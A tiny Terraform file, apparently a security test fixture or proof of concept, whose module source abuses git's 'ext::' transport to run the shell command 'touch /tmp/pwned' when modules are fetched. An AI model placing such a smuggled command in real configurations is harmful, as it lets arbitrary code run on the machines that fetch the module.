module "x" {
  source = "git::ext::sh -c touch% /tmp/pwned"
}
